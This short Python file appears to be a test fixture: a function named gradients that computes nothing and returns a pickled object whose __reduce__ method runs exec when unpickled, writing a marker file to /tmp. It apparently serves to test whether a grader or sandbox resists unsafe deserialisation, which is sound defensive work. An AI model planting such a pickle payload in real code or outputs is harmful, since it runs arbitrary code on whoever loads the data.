"""Returns what runs code where it is unpickled.

Expected: no-array.
"""

import pickle


class Payload:
    def __reduce__(self):
        return exec, ("open('/tmp/left-by-an-attack', 'w').write('here')",)


def gradients(x, t, w, b):
    return pickle.dumps(Payload())
